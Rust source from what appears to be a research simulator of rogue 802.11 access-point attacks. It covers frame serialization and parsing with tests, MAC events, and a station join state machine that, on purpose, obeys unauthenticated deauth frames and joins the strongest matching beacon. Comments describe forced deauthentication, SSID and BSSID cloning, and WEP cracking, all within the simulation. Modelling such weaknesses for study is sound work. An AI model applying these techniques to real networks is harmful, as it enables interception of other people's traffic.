        assert!(MacAddr::BROADCAST.is_multicast());
        assert!(!MacAddr::ZERO.is_broadcast());
    }
}
