//! 802.11 frame wire format.
//!
//! Frames serialize to real byte buffers and re-parse on reception: the
//! attacker's sniffer, the WEP cracker and the sequence-control detector
//! all consume the same bytes a real NIC would hand them.
//!
//! Layout (management/data):
//!
//! ```text
//! | FC (2, LE) | Duration (2) | Addr1 (6) | Addr2 (6) | Addr3 (6) |
//! | SeqCtrl (2, LE) | Body (...) | FCS (4, CRC-32 LE) |
//! ```
//!
//! ACK control frames are the short form `FC | Duration | Addr1 | FCS`.
//!
//! Frame-control bit assignments follow IEEE 802.11-1999 §7.1.3.1; the
//! subset implemented is exactly what the reproduction's scenarios
//! exercise (plus FCS validation, which real MACs do in hardware).

use bytes::{BufMut, Bytes, BytesMut};
use rogue_crypto::crc32;

use crate::addr::MacAddr;

/// Length of the LLC/SNAP header prefixed to data payloads.
pub const LLC_SNAP_LEN: usize = 8;

/// Management/data header length (before the body).
pub const HEADER_LEN: usize = 24;

/// FCS trailer length.
pub const FCS_LEN: usize = 4;

/// Frame type+subtype, decoded.
#[derive(Clone, Debug, PartialEq)]
pub enum FrameBody {
    /// Beacon (mgmt subtype 8).
    Beacon(MgmtInfo),
    /// Probe request (mgmt subtype 4); `ssid: None` is the wildcard probe.
    ProbeReq {
        /// Requested SSID, or `None` for "any".
        ssid: Option<String>,
    },
    /// Probe response (mgmt subtype 5) — same body as a beacon.
    ProbeResp(MgmtInfo),
    /// Authentication (mgmt subtype 11). Open System only: the paper-era
    /// "Shared Key" variant leaked keystream and was already deprecated.
    Auth {
        /// 0 = Open System.
        algorithm: u16,
        /// Transaction sequence (1 = request, 2 = response).
        seq: u16,
        /// 0 = success.
        status: u16,
    },
    /// Association request (mgmt subtype 0).
    AssocReq {
        /// Capability field (bit 0 ESS, bit 4 privacy).
        capability: u16,
        /// SSID the station is joining.
        ssid: String,
    },
    /// Association response (mgmt subtype 1).
    AssocResp {
        /// Capability field.
        capability: u16,
        /// 0 = success.
        status: u16,
        /// Association ID.
        aid: u16,
    },
    /// Deauthentication (mgmt subtype 12) — famously unauthenticated,
    /// which is what lets the attacker "force the client's disassociation
    /// from the legitimate AP" (§4).
    Deauth {
        /// Reason code.
        reason: u16,
    },
    /// Disassociation (mgmt subtype 10).
    Disassoc {
        /// Reason code.
        reason: u16,
    },
    /// ACK control frame (no body; short header).
    Ack,
    /// Data frame; `payload` is the raw body — LLC/SNAP plaintext, or a
    /// WEP-sealed blob when the `protected` flag is set.
    Data {
        /// Frame body bytes.
        payload: Bytes,
    },
}

/// Beacon / probe-response contents.
#[derive(Clone, Debug, PartialEq)]
pub struct MgmtInfo {
    /// TSF timestamp (µs).
    pub timestamp: u64,
    /// Beacon interval in time units (1 TU = 1024 µs).
    pub beacon_interval_tu: u16,
    /// Capability field; bit 4 = privacy (WEP required).
    pub capability: u16,
    /// Network name.
    pub ssid: String,
    /// DS parameter set: the channel the AP claims to operate on.
    pub channel: u8,
}

/// Capability bit: ESS (infrastructure network).
pub const CAP_ESS: u16 = 1 << 0;
/// Capability bit: privacy (WEP).
pub const CAP_PRIVACY: u16 = 1 << 4;

/// A parsed 802.11 frame.
#[derive(Clone, Debug, PartialEq)]
pub struct Frame {
    /// Destination / receiver address (Addr1).
    pub addr1: MacAddr,
    /// Source / transmitter address (Addr2; zero for ACK).
    pub addr2: MacAddr,
    /// BSSID / third address (zero for ACK).
    pub addr3: MacAddr,
    /// 12-bit sequence number (0 for ACK).
    pub seq: u16,
    /// 4-bit fragment number.
    pub frag: u8,
    /// To-DS flag (station → AP).
    pub to_ds: bool,
    /// From-DS flag (AP → station).
    pub from_ds: bool,
    /// Retry flag.
    pub retry: bool,
    /// Protected (WEP) flag.
    pub protected: bool,
    /// Decoded body.
    pub body: FrameBody,
}

/// Frame parse failures.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FrameError {
    /// Too short to hold the claimed structure.
    Truncated,
    /// FCS mismatch (corrupt frame).
    BadFcs,
    /// Unsupported type/subtype.
    Unsupported,
    /// Malformed information elements.
    BadElements,
}

impl Frame {
    /// Construct a management/data frame with common defaults.
    pub fn new(addr1: MacAddr, addr2: MacAddr, addr3: MacAddr, body: FrameBody) -> Frame {
        Frame {
            addr1,
            addr2,
            addr3,
            seq: 0,
            frag: 0,
            to_ds: false,
            from_ds: false,
            retry: false,
            protected: false,
            body,
        }
    }

    /// Shorthand for an ACK to `ra`.
    pub fn ack(ra: MacAddr) -> Frame {
        Frame::new(ra, MacAddr::ZERO, MacAddr::ZERO, FrameBody::Ack)
    }

    /// The BSSID of this frame given its DS bits (Addr3 for no-DS and
    /// mgmt, Addr1 for to-DS, Addr2 for from-DS).
    pub fn bssid(&self) -> MacAddr {
        if self.to_ds {
            self.addr1
        } else if self.from_ds {
            self.addr2
        } else {
            self.addr3
        }
    }

    /// Logical source address.
    pub fn sa(&self) -> MacAddr {
        if self.from_ds {
            self.addr3
        } else {
            self.addr2
        }
    }

    /// Logical destination address.
    pub fn da(&self) -> MacAddr {
        if self.to_ds {
            self.addr3
        } else {
            self.addr1
        }
    }

    fn type_subtype(&self) -> (u8, u8) {
        match &self.body {
            FrameBody::AssocReq { .. } => (0, 0),
            FrameBody::AssocResp { .. } => (0, 1),
            FrameBody::ProbeReq { .. } => (0, 4),
            FrameBody::ProbeResp(_) => (0, 5),
            FrameBody::Beacon(_) => (0, 8),
            FrameBody::Disassoc { .. } => (0, 10),
            FrameBody::Auth { .. } => (0, 11),
            FrameBody::Deauth { .. } => (0, 12),
            FrameBody::Ack => (1, 13),
            FrameBody::Data { .. } => (2, 0),
        }
    }

    /// Serialize to wire bytes (appends a valid FCS).
    pub fn encode(&self) -> Bytes {
        let (typ, subtype) = self.type_subtype();
        let mut fc: u16 = ((typ as u16) << 2) | ((subtype as u16) << 4);
        if self.to_ds {
            fc |= 1 << 8;
        }
        if self.from_ds {
            fc |= 1 << 9;
        }
        if self.retry {
            fc |= 1 << 11;
        }
        if self.protected {
            fc |= 1 << 14;
        }

        let mut buf = BytesMut::with_capacity(64);
        buf.put_u16_le(fc);
        buf.put_u16_le(0); // duration: not modelled
        buf.put_slice(&self.addr1.0);
        if self.body != FrameBody::Ack {
            buf.put_slice(&self.addr2.0);
            buf.put_slice(&self.addr3.0);
            buf.put_u16_le((self.seq << 4) | (self.frag as u16 & 0xF));
            self.encode_body(&mut buf);
        }
        let fcs = crc32(&buf);
        buf.put_u32_le(fcs);
        buf.freeze()
    }

    fn encode_body(&self, buf: &mut BytesMut) {
        match &self.body {
            FrameBody::Beacon(info) | FrameBody::ProbeResp(info) => {
                buf.put_u64_le(info.timestamp);
                buf.put_u16_le(info.beacon_interval_tu);
                buf.put_u16_le(info.capability);
                put_ie(buf, 0, info.ssid.as_bytes());
                put_ie(buf, 1, &[0x82, 0x84, 0x8B, 0x96]); // 1,2,5.5,11 basic
                put_ie(buf, 3, &[info.channel]);
            }
            FrameBody::ProbeReq { ssid } => {
                let s = ssid.as_deref().unwrap_or("");
                put_ie(buf, 0, s.as_bytes());
            }
            FrameBody::Auth {
                algorithm,
                seq,
                status,
            } => {
                buf.put_u16_le(*algorithm);
                buf.put_u16_le(*seq);
                buf.put_u16_le(*status);
            }
            FrameBody::AssocReq { capability, ssid } => {
                buf.put_u16_le(*capability);
                buf.put_u16_le(10); // listen interval
                put_ie(buf, 0, ssid.as_bytes());
            }
            FrameBody::AssocResp {
                capability,
                status,
                aid,
            } => {
                buf.put_u16_le(*capability);
                buf.put_u16_le(*status);
                buf.put_u16_le(*aid);
            }
            FrameBody::Deauth { reason } | FrameBody::Disassoc { reason } => {
                buf.put_u16_le(*reason);
            }
            FrameBody::Ack => unreachable!("ACK handled in encode"),
            FrameBody::Data { payload } => buf.put_slice(payload),
        }
    }

    /// Parse wire bytes, verifying the FCS. Takes the refcounted buffer
    /// (not a plain slice) so a data payload is a zero-copy view of it.
    pub fn decode(bytes: &Bytes) -> Result<Frame, FrameError> {
        if bytes.len() < 2 + 2 + 6 + FCS_LEN {
            return Err(FrameError::Truncated);
        }
        let body_end = bytes.len() - FCS_LEN;
        let fcs = u32::from_le_bytes(bytes[body_end..].try_into().unwrap());
        if crc32(&bytes[..body_end]) != fcs {
            return Err(FrameError::BadFcs);
        }
        let fc = u16::from_le_bytes([bytes[0], bytes[1]]);
        let typ = ((fc >> 2) & 0x3) as u8;
        let subtype = ((fc >> 4) & 0xF) as u8;
        let to_ds = fc & (1 << 8) != 0;
        let from_ds = fc & (1 << 9) != 0;
        let retry = fc & (1 << 11) != 0;
        let protected = fc & (1 << 14) != 0;

        let addr1 = MacAddr(bytes[4..10].try_into().unwrap());

        if typ == 1 {
            // Control: only ACK is modelled.
            if subtype != 13 {
                return Err(FrameError::Unsupported);
            }
            return Ok(Frame {
                addr1,
                addr2: MacAddr::ZERO,
                addr3: MacAddr::ZERO,
                seq: 0,
                frag: 0,
                to_ds,
                from_ds,
                retry,
                protected,
                body: FrameBody::Ack,
            });
        }

        if body_end < HEADER_LEN {
            return Err(FrameError::Truncated);
        }
        let addr2 = MacAddr(bytes[10..16].try_into().unwrap());
        let addr3 = MacAddr(bytes[16..22].try_into().unwrap());
        let seq_ctrl = u16::from_le_bytes([bytes[22], bytes[23]]);
        let seq = seq_ctrl >> 4;
        let frag = (seq_ctrl & 0xF) as u8;
        let body = &bytes[HEADER_LEN..body_end];

        let body = match (typ, subtype) {
            (0, 8) => FrameBody::Beacon(parse_mgmt_info(body)?),
            (0, 5) => FrameBody::ProbeResp(parse_mgmt_info(body)?),
            (0, 4) => {
                let ies = parse_ies(body)?;
                let ssid = ies
                    .iter()
                    .find(|(id, _)| *id == 0)
                    .map(|(_, v)| String::from_utf8_lossy(v).into_owned());
                FrameBody::ProbeReq {
                    ssid: ssid.filter(|s| !s.is_empty()),
                }
            }
            (0, 11) => {
                if body.len() < 6 {
                    return Err(FrameError::Truncated);
                }
                FrameBody::Auth {
                    algorithm: u16::from_le_bytes([body[0], body[1]]),
                    seq: u16::from_le_bytes([body[2], body[3]]),
                    status: u16::from_le_bytes([body[4], body[5]]),
                }
            }
            (0, 0) => {
                if body.len() < 4 {
                    return Err(FrameError::Truncated);
                }
                let capability = u16::from_le_bytes([body[0], body[1]]);
                let ies = parse_ies(&body[4..])?;
                let ssid = ies
                    .iter()
                    .find(|(id, _)| *id == 0)
                    .map(|(_, v)| String::from_utf8_lossy(v).into_owned())
                    .ok_or(FrameError::BadElements)?;
                FrameBody::AssocReq { capability, ssid }
            }
            (0, 1) => {
                if body.len() < 6 {
                    return Err(FrameError::Truncated);
                }
                FrameBody::AssocResp {
                    capability: u16::from_le_bytes([body[0], body[1]]),
                    status: u16::from_le_bytes([body[2], body[3]]),
                    aid: u16::from_le_bytes([body[4], body[5]]),
                }
            }
            (0, 12) => {
                if body.len() < 2 {
                    return Err(FrameError::Truncated);
                }
                FrameBody::Deauth {
                    reason: u16::from_le_bytes([body[0], body[1]]),
                }
            }
            (0, 10) => {
                if body.len() < 2 {
                    return Err(FrameError::Truncated);
                }
                FrameBody::Disassoc {
                    reason: u16::from_le_bytes([body[0], body[1]]),
                }
            }
            (2, 0) => FrameBody::Data {
                // A view of the receive buffer — the whole point of
                // threading `Bytes` down here.
                payload: bytes.slice(HEADER_LEN..body_end),
            },
            _ => return Err(FrameError::Unsupported),
        };

        Ok(Frame {
            addr1,
            addr2,
            addr3,
            seq,
            frag,
            to_ds,
            from_ds,
            retry,
            protected,
            body,
        })
    }
}

fn put_ie(buf: &mut BytesMut, id: u8, value: &[u8]) {
    debug_assert!(value.len() <= 255);
    buf.put_u8(id);
    buf.put_u8(value.len() as u8);
    buf.put_slice(value);
}

fn parse_ies(mut body: &[u8]) -> Result<Vec<(u8, Vec<u8>)>, FrameError> {
    let mut out = Vec::new();
    while !body.is_empty() {
        if body.len() < 2 {
            return Err(FrameError::BadElements);
        }
        let id = body[0];
        let len = body[1] as usize;
        if body.len() < 2 + len {
            return Err(FrameError::BadElements);
        }
        out.push((id, body[2..2 + len].to_vec()));
        body = &body[2 + len..];
    }
    Ok(out)
}

fn parse_mgmt_info(body: &[u8]) -> Result<MgmtInfo, FrameError> {
    if body.len() < 12 {
        return Err(FrameError::Truncated);
    }
    let timestamp = u64::from_le_bytes(body[0..8].try_into().unwrap());
    let beacon_interval_tu = u16::from_le_bytes([body[8], body[9]]);
    let capability = u16::from_le_bytes([body[10], body[11]]);
    let ies = parse_ies(&body[12..])?;
    let ssid = ies
        .iter()
        .find(|(id, _)| *id == 0)
        .map(|(_, v)| String::from_utf8_lossy(v).into_owned())
        .ok_or(FrameError::BadElements)?;
    let channel = ies
        .iter()
        .find(|(id, _)| *id == 3)
        .and_then(|(_, v)| v.first().copied())
        .ok_or(FrameError::BadElements)?;
    Ok(MgmtInfo {
        timestamp,
        beacon_interval_tu,
        capability,
        ssid,
        channel,
    })
}

/// Prefix `payload` with an LLC/SNAP header carrying `ethertype`.
pub fn encode_llc(ethertype: u16, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(LLC_SNAP_LEN + payload.len());
    out.extend_from_slice(&[0xAA, 0xAA, 0x03, 0x00, 0x00, 0x00]);
    out.extend_from_slice(&ethertype.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// Split an LLC/SNAP-framed body into (ethertype, payload).
pub fn decode_llc(body: &[u8]) -> Option<(u16, &[u8])> {
    if body.len() < LLC_SNAP_LEN || body[0] != 0xAA || body[1] != 0xAA || body[2] != 0x03 {
        return None;
    }
    let ethertype = u16::from_be_bytes([body[6], body[7]]);
    Some((ethertype, &body[LLC_SNAP_LEN..]))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn a(n: u64) -> MacAddr {
        MacAddr::local(n)
    }

    fn roundtrip(f: &Frame) -> Frame {
        Frame::decode(&f.encode()).expect("decode")
    }

    #[test]
    fn beacon_roundtrip() {
        let mut f = Frame::new(
            MacAddr::BROADCAST,
            a(1),
            a(1),
            FrameBody::Beacon(MgmtInfo {
                timestamp: 123456,
                beacon_interval_tu: 100,
                capability: CAP_ESS | CAP_PRIVACY,
                ssid: "CORP".into(),
                channel: 6,
            }),
        );
        f.seq = 777;
        let g = roundtrip(&f);
        assert_eq!(f, g);
        assert_eq!(g.bssid(), a(1));
    }

    #[test]
    fn probe_req_wildcard_and_named() {
        let f = Frame::new(
            MacAddr::BROADCAST,
            a(2),
            MacAddr::BROADCAST,
            FrameBody::ProbeReq { ssid: None },
        );
        assert_eq!(roundtrip(&f).body, FrameBody::ProbeReq { ssid: None });

        let f = Frame::new(
            MacAddr::BROADCAST,
            a(2),
            MacAddr::BROADCAST,
            FrameBody::ProbeReq {
                ssid: Some("CORP".into()),
            },
        );
        assert_eq!(
            roundtrip(&f).body,
            FrameBody::ProbeReq {
                ssid: Some("CORP".into())
            }
        );
    }

    #[test]
    fn auth_assoc_roundtrip() {
        let f = Frame::new(
            a(1),
            a(2),
            a(1),
            FrameBody::Auth {
                algorithm: 0,
                seq: 1,
                status: 0,
            },
        );
        assert_eq!(roundtrip(&f), f);

        let f = Frame::new(
            a(1),
            a(2),
            a(1),
            FrameBody::AssocReq {
                capability: CAP_ESS,
                ssid: "CORP".into(),
            },
        );
        assert_eq!(roundtrip(&f), f);

        let f = Frame::new(
            a(2),
            a(1),
            a(1),
            FrameBody::AssocResp {
                capability: CAP_ESS,
                status: 0,
                aid: 1,
            },
        );
        assert_eq!(roundtrip(&f), f);
    }

    #[test]
    fn deauth_roundtrip() {
        let f = Frame::new(a(2), a(1), a(1), FrameBody::Deauth { reason: 7 });
        assert_eq!(roundtrip(&f), f);
    }

    #[test]
    fn ack_is_short() {
        let f = Frame::ack(a(5));
        let bytes = f.encode();
        assert_eq!(bytes.len(), 14);
        let g = Frame::decode(&bytes).unwrap();
        assert_eq!(g.body, FrameBody::Ack);
        assert_eq!(g.addr1, a(5));
    }

    #[test]
    fn data_frame_roundtrip_with_flags() {
        let mut f = Frame::new(
            a(9),
            a(3),
            a(4),
            FrameBody::Data {
                payload: Bytes::from_static(b"\xAA\xAA\x03\x00\x00\x00\x08\x00hello"),
            },
        );
        f.to_ds = true;
        f.protected = true;
        f.retry = true;
        f.seq = 4095;
        let g = roundtrip(&f);
        assert_eq!(f, g);
        assert_eq!(g.bssid(), a(9), "to-DS: addr1 is BSSID");
        assert_eq!(g.sa(), a(3));
        assert_eq!(g.da(), a(4));
    }

    #[test]
    fn from_ds_addressing() {
        let mut f = Frame::new(
            a(7),
            a(8),
            a(9),
            FrameBody::Data {
                payload: Bytes::from_static(b"\xAA\xAA\x03\x00\x00\x00\x08\x00x"),
            },
        );
        f.from_ds = true;
        assert_eq!(f.bssid(), a(8));
        assert_eq!(f.sa(), a(9));
        assert_eq!(f.da(), a(7));
    }

    #[test]
    fn corrupt_fcs_rejected() {
        let f = Frame::new(a(1), a(2), a(3), FrameBody::Deauth { reason: 1 });
        let mut bytes = f.encode().to_vec();
        let n = bytes.len();
        bytes[n - 1] ^= 0xFF;
        assert_eq!(Frame::decode(&bytes.into()), Err(FrameError::BadFcs));
    }

    #[test]
    fn corrupt_header_rejected_by_fcs() {
        let f = Frame::new(a(1), a(2), a(3), FrameBody::Deauth { reason: 1 });
        let mut bytes = f.encode().to_vec();
        bytes[5] ^= 0x01; // flip an addr1 bit
        assert_eq!(Frame::decode(&bytes.into()), Err(FrameError::BadFcs));
    }

    #[test]
    fn truncated_rejected() {
        assert_eq!(
            Frame::decode(&Bytes::from_static(&[1, 2, 3])),
            Err(FrameError::Truncated)
        );
    }

    #[test]
    fn llc_roundtrip() {
        let framed = encode_llc(0x0800, b"ip packet");
        assert_eq!(
            framed[0], 0xAA,
            "SNAP first byte is the FMS known-plaintext"
        );
        let (et, payload) = decode_llc(&framed).unwrap();
        assert_eq!(et, 0x0800);
        assert_eq!(payload, b"ip packet");
        assert!(decode_llc(b"\x00\x01\x02").is_none());
    }

    #[test]
    fn seq_field_width() {
        let mut f = Frame::new(a(1), a(2), a(3), FrameBody::Deauth { reason: 1 });
        f.seq = 4095;
        f.frag = 15;
        let g = roundtrip(&f);
        assert_eq!(g.seq, 4095);
        assert_eq!(g.frag, 15);
    }
}
