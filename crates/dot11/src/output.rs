//! Outputs from MAC entities toward the embedding world.

use bytes::Bytes;
use rogue_phy::Bitrate;

use crate::addr::MacAddr;

/// Things a MAC asks the world to do, or tells it about.
#[derive(Clone, Debug)]
pub enum MacOutput {
    /// Transmit these bytes on the entity's radio at the given rate.
    Tx {
        /// Encoded frame (with FCS).
        bytes: Bytes,
        /// PHY rate.
        bitrate: Bitrate,
    },
    /// Retune the radio to `channel` (stations do this while scanning or
    /// joining; auditors while sweeping).
    SetChannel(u8),
    /// Deliver a received data payload to the network stack above.
    DeliverData {
        /// Logical source MAC.
        src: MacAddr,
        /// Logical destination MAC.
        dst: MacAddr,
        /// Ethertype from the LLC/SNAP header.
        ethertype: u16,
        /// Network-layer payload.
        payload: Bytes,
    },
    /// Protocol milestone, consumed by metrics and scenario logic.
    Event(MacEvent),
}

/// MAC protocol milestones.
#[derive(Clone, Debug, PartialEq)]
pub enum MacEvent {
    /// A station completed association.
    Associated {
        /// The BSSID it joined.
        bssid: MacAddr,
        /// Channel it is now on.
        channel: u8,
        /// RSSI of the AP at selection time, dBm.
        rssi_dbm: f64,
    },
    /// A station lost / left its association.
    Disassociated {
        /// The BSSID it was on.
        bssid: MacAddr,
        /// Whether a received deauth/disassoc caused it.
        forced: bool,
    },
    /// An AP accepted a new client.
    ClientAssociated {
        /// Client MAC.
        client: MacAddr,
    },
    /// An AP rejected a client (ACL, wrong capability…).
    ClientRejected {
        /// Client MAC.
        client: MacAddr,
        /// 802.11 status code used in the refusal.
        status: u16,
    },
    /// A frame transmission exhausted its retries.
    TxFailed {
        /// Destination that never ACKed.
        dst: MacAddr,
    },
    /// A protected frame failed WEP decryption (wrong key / tampering).
    WepDecryptFailed {
        /// Transmitter address of the offending frame.
        from: MacAddr,
    },
}
