//! Station (client) state machine.
//!
//! The joining logic is deliberately faithful to what 2003-era clients
//! did — and therein lies the paper's point (§3.1): the station
//! authenticates *to* the network, but nothing authenticates the network
//! to the station. A station scans, collects beacons whose SSID (and
//! privacy capability) match its profile, and associates with the
//! **strongest signal**. A rogue AP that clones the SSID — and, as in
//! Figure 1, even the BSSID and WEP key — is indistinguishable and wins
//! whenever its RSSI is higher or the client is deauth-forced off the
//! legitimate AP.

use std::collections::HashMap;

use bytes::Bytes;
use rogue_crypto::wep::{self, IvPolicy, IvSource, WepKey};
use rogue_phy::Bitrate;
use rogue_sim::{SimDuration, SimRng, SimTime};

use crate::addr::MacAddr;
use crate::frame::{decode_llc, encode_llc, Frame, FrameBody, CAP_ESS, CAP_PRIVACY, LLC_SNAP_LEN};
use crate::output::{MacEvent, MacOutput};
use crate::txq::TxQueue;

/// Station configuration.
#[derive(Clone, Debug)]
pub struct StaConfig {
    /// Our MAC address.
    pub mac: MacAddr,
    /// Network name to join.
    pub ssid: String,
    /// WEP key, if the profile uses privacy.
    pub wep: Option<WepKey>,
    /// IV generation policy (sequential = period-card default).
    pub iv_policy: IvPolicy,
    /// Rescan and rejoin after losing the association.
    pub auto_reconnect: bool,
    /// Dwell time per channel while scanning (must exceed the beacon
    /// interval to hear every AP).
    pub scan_dwell: SimDuration,
    /// Channels to scan.
    pub channels: Vec<u8>,
    /// Ignore APs weaker than this, dBm.
    pub min_rssi_dbm: f64,
    /// While associated, this many consecutive beacons below
    /// `min_rssi_dbm` trigger a voluntary roam (rescan) — the behaviour
    /// real drivers use so a walking client reattaches before losing
    /// the link entirely.
    pub roam_weak_beacons: u32,
}

impl StaConfig {
    /// A typical corporate-laptop profile for network `ssid`.
    pub fn typical(mac: MacAddr, ssid: &str, wep: Option<WepKey>) -> StaConfig {
        StaConfig {
            mac,
            ssid: ssid.to_string(),
            wep,
            iv_policy: IvPolicy::Sequential(0),
            auto_reconnect: true,
            scan_dwell: SimDuration::from_millis(120),
            channels: vec![1, 6, 11],
            min_rssi_dbm: -88.0,
            roam_weak_beacons: 8,
        }
    }
}

/// Station association state.
#[derive(Clone, Debug, PartialEq)]
pub enum StaState {
    /// Sweeping channels, collecting beacons.
    Scanning,
    /// Sent Auth, awaiting response.
    Authenticating,
    /// Sent AssocReq, awaiting response.
    Associating,
    /// Joined a BSS.
    Associated,
    /// Gave up (auto_reconnect = false and the association was lost).
    Detached,
}

#[derive(Clone, Debug)]
struct Candidate {
    bssid: MacAddr,
    channel: u8,
    rssi_dbm: f64,
    failures: u8,
}

/// How long to wait for an Auth/Assoc response before abandoning an AP.
const JOIN_TIMEOUT: SimDuration = SimDuration::from_millis(100);
/// Beacon-loss threshold: no beacon from our BSS for this long means the
/// AP is gone.
const BEACON_LOSS: SimDuration = SimDuration::from_millis(1_200);
/// Candidates with this many join failures are ignored.
const MAX_JOIN_FAILURES: u8 = 2;

/// The station MAC entity.
pub struct StaMac {
    cfg: StaConfig,
    state: StaState,
    /// Channel the radio is currently tuned to.
    channel: u8,
    scan_idx: usize,
    state_deadline: SimTime,
    candidates: Vec<Candidate>,
    target: Option<Candidate>,
    bssid: Option<MacAddr>,
    last_beacon: SimTime,
    txq: TxQueue,
    iv: IvSource,
    rng: SimRng,
    /// (last seq, retry) per transmitter for duplicate suppression.
    dedup: HashMap<MacAddr, u16>,
    /// Consecutive weak beacons from our own BSS (roam trigger).
    weak_beacons: u32,
    /// A voluntary roam was triggered; executed at the next poll.
    pending_roam: bool,
    /// Count of beacons heard matching our SSID.
    pub beacons_heard: u64,
    /// Data frames delivered upward.
    pub data_rx: u64,
    /// Data frames queued downward.
    pub data_tx: u64,
    /// Protected frames that failed to decrypt.
    pub wep_failures: u64,
}

impl StaMac {
    /// Create a station and begin scanning. The caller must tune the
    /// radio to the first scan channel (an initial `SetChannel` is also
    /// emitted from the first poll).
    pub fn new(cfg: StaConfig, mut rng: SimRng, now: SimTime) -> StaMac {
        assert!(!cfg.channels.is_empty(), "station needs channels to scan");
        let txq = TxQueue::new(rng.fork(1));
        let iv = IvSource::new(cfg.iv_policy.clone());
        let channel = cfg.channels[0];
        let dwell = cfg.scan_dwell;
        StaMac {
            cfg,
            state: StaState::Scanning,
            channel,
            scan_idx: 0,
            state_deadline: now + dwell,
            candidates: Vec::new(),
            target: None,
            bssid: None,
            last_beacon: now,
            txq,
            iv,
            rng,
            dedup: HashMap::new(),
            weak_beacons: 0,
            pending_roam: false,
            beacons_heard: 0,
            data_rx: 0,
            data_tx: 0,
            wep_failures: 0,
        }
    }

    /// Our MAC address.
    pub fn mac(&self) -> MacAddr {
        self.cfg.mac
    }

    /// Current state.
    pub fn state(&self) -> &StaState {
        &self.state
    }

    /// BSSID of the current association, if any.
    pub fn bssid(&self) -> Option<MacAddr> {
        self.bssid
    }

    /// Channel the radio should be tuned to.
    pub fn channel(&self) -> u8 {
        self.channel
    }

    /// Earliest instant this entity needs a poll.
    pub fn next_wake(&self) -> SimTime {
        if self.pending_roam {
            return SimTime::ZERO; // immediately (clamped to now by callers)
        }
        let mut wake = self.txq.next_wake();
        match self.state {
            StaState::Scanning | StaState::Authenticating | StaState::Associating => {
                wake = wake.min(self.state_deadline);
            }
            StaState::Associated => {
                wake = wake.min(self.last_beacon.saturating_add(BEACON_LOSS));
            }
            StaState::Detached => {}
        }
        wake
    }

    /// Queue a data payload to `dst` (via the AP). Returns false (and
    /// drops) when not associated.
    pub fn send_data(
        &mut self,
        now: SimTime,
        dst: MacAddr,
        ethertype: u16,
        payload: &[u8],
    ) -> bool {
        let Some(bssid) = self.bssid else {
            return false;
        };
        if self.state != StaState::Associated {
            return false;
        }
        let body = encode_llc(ethertype, payload);
        let (body, protected) = match &self.cfg.wep {
            Some(key) => {
                let entropy = self.rng.next_u32();
                let iv = self.iv.next_iv(entropy);
                (wep::seal(key, iv, 0, &body), true)
            }
            None => (body, false),
        };
        let mut f = Frame::new(
            bssid,
            self.cfg.mac,
            dst,
            FrameBody::Data {
                payload: Bytes::from(body),
            },
        );
        f.to_ds = true;
        f.protected = protected;
        self.txq.push(now, f, Bitrate::B11, true);
        self.data_tx += 1;
        true
    }

    /// Handle a decoded PHY delivery.
    pub fn on_receive(
        &mut self,
        now: SimTime,
        bytes: &Bytes,
        rssi_dbm: f64,
        channel: u8,
        out: &mut Vec<MacOutput>,
    ) {
        let Ok(frame) = Frame::decode(bytes) else {
            return;
        };
        match &frame.body {
            FrameBody::Ack => {
                if frame.addr1 == self.cfg.mac {
                    self.txq.on_ack(now);
                }
                return;
            }
            FrameBody::Beacon(info) | FrameBody::ProbeResp(info) => {
                self.on_beacon(
                    now,
                    &frame,
                    info.ssid.clone(),
                    info.capability,
                    channel,
                    rssi_dbm,
                );
                return;
            }
            _ => {}
        }

        // Unicast frames addressed to us get an ACK (even duplicates).
        let unicast_to_us = frame.addr1 == self.cfg.mac;
        if unicast_to_us {
            self.txq.emit_ack(now, frame.addr2, out);
            // Duplicate suppression on retransmissions.
            if frame.retry {
                if let Some(&last) = self.dedup.get(&frame.addr2) {
                    if last == frame.seq {
                        return;
                    }
                }
            }
            self.dedup.insert(frame.addr2, frame.seq);
        } else if !frame.addr1.is_multicast() {
            return; // unicast for someone else
        }

        match frame.body.clone() {
            FrameBody::Auth { seq: 2, status, .. } => self.on_auth_resp(now, &frame, status, out),
            FrameBody::AssocResp { status, .. } => self.on_assoc_resp(now, &frame, status, out),
            FrameBody::Deauth { .. } | FrameBody::Disassoc { .. }
                // A deauth claiming to be from our BSS — no way to verify,
                // so the station obeys. (This is the §4 forced-roam lever.)
                if (Some(frame.bssid()) == self.bssid || frame.addr2 == self.cfg.mac) => {
                    self.lose_association(now, true, out);
                }
            FrameBody::Data { payload } => self.on_data(&frame, payload, out),
            _ => {}
        }
    }

    fn on_beacon(
        &mut self,
        now: SimTime,
        frame: &Frame,
        ssid: String,
        capability: u16,
        channel: u8,
        rssi_dbm: f64,
    ) {
        if ssid != self.cfg.ssid {
            return;
        }
        self.beacons_heard += 1;
        // Privacy must match the profile: a WEP profile ignores open APs
        // and vice versa (matching real supplicant behaviour).
        let wants_privacy = self.cfg.wep.is_some();
        if (capability & CAP_PRIVACY != 0) != wants_privacy {
            return;
        }
        if Some(frame.bssid()) == self.bssid && self.state == StaState::Associated {
            self.last_beacon = now;
            // Voluntary roam: a run of weak beacons means we are walking
            // out of this AP's useful range — rescan before the link
            // dies outright.
            if rssi_dbm < self.cfg.min_rssi_dbm {
                self.weak_beacons += 1;
                if self.weak_beacons >= self.cfg.roam_weak_beacons {
                    self.weak_beacons = 0;
                    // Mark pending roam; executed below (needs &mut out).
                    self.pending_roam = true;
                }
            } else {
                self.weak_beacons = 0;
            }
        }
        if rssi_dbm < self.cfg.min_rssi_dbm {
            return;
        }
        let bssid = frame.bssid();
        match self
            .candidates
            .iter_mut()
            .find(|c| c.bssid == bssid && c.channel == channel)
        {
            Some(c) => c.rssi_dbm = rssi_dbm,
            None => self.candidates.push(Candidate {
                bssid,
                channel,
                rssi_dbm,
                failures: 0,
            }),
        }
    }

    fn on_auth_resp(&mut self, now: SimTime, frame: &Frame, status: u16, out: &mut Vec<MacOutput>) {
        if self.state != StaState::Authenticating {
            return;
        }
        let Some(t) = &self.target else { return };
        if frame.addr2 != t.bssid {
            return;
        }
        if status != 0 {
            self.fail_target(now, out);
            return;
        }
        let mut cap = CAP_ESS;
        if self.cfg.wep.is_some() {
            cap |= CAP_PRIVACY;
        }
        let f = Frame::new(
            t.bssid,
            self.cfg.mac,
            t.bssid,
            FrameBody::AssocReq {
                capability: cap,
                ssid: self.cfg.ssid.clone(),
            },
        );
        self.txq.push(now, f, Bitrate::B1, true);
        self.state = StaState::Associating;
